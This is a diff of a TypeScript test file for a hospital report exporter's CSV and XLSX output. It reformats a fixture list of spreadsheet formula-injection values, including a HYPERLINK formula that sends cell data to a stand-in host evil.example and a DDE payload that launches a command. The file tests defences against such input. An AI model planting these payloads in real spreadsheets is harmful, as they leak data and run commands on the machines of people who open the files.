@@ -5,15 +5,7 @@ import { tableToCsv, tablesToXlsxBuffer } from './export-report.js';
 import type { ReportTable } from './report-tables.js';
 
 /** HIS values a careless or hostile HIS can put in a department, doctor or item name. */
-const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
-  '+86-10-1234',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
-  '＝1+1',
-];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+86-10-1234', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
 
 interface Row {
   code: string;
@@ -29,10 +21,7 @@ const table: ReportTable<Row> = {
     { header: '科室名称', value: (r) => r.name, format: 'text' },
     { header: '违规金额(元)', value: (r) => r.amount, format: 'money' },
   ],
-  rows: [
-    { code: 'XL02BBA326A001010102180', name: '阿帕他胺片', amount: -12.5 },
-    ...HOSTILE.map((name) => ({ code: 'XL02BBA326A001010102180', name, amount: 100 })),
-  ],
+  rows: [{ code: 'XL02BBA326A001010102180', name: '阿帕他胺片', amount: -12.5 }, ...HOSTILE.map((name) => ({ code: 'XL02BBA326A001010102180', name, amount: 100 }))],
 };
 
 /** Reads the CSV back as a spreadsheet would (csv-parse: BOM, quotes, CRLF rows). */
